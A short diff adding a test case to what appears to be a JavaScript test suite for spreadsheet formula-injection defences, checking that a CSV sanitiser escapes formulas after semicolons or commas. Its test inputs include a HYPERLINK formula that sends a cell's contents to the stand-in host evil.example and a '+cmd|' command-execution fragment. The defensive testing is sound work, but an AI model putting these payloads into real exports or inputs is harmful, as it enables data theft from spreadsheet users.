@@ -42,6 +42,15 @@ describe('hostile text in exports and inputs', () => {
     expect(xmlSafeText('a\tb\nc\r\u{1F600}')).toBe('a\tb\nc\r\u{1F600}');
   });
 
+  it('neutralises a formula after a ; or , inside a cell (semicolon-locale spreadsheets)', () => {
+    expect(csvCellText('Ann;=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
+      `Ann;'=HYPERLINK("http://evil.example/?"&A1,"x")`,
+    );
+    expect(csvCellText('a,+cmd|x;@SUM(1);-2;\tx')).toBe("a,'+cmd|x;'@SUM(1);'-2;'\tx");
+    expect(csvCellText('=1;=2')).toBe("'=1;'=2");
+    expect(csvCellText('06:00-14:00 calls, break 10:00-10:30')).toBe('06:00-14:00 calls, break 10:00-10:30');
+  });
+
   it('refuses control characters and non-characters in typed text, naming the field', () => {
     for (const name of [...HOSTILE_NAMES, 'x\u007F', 'y\uFDD0', 'z\u{10FFFF}'])
       expect(unsafeTextProblem('name', name)).toMatch(
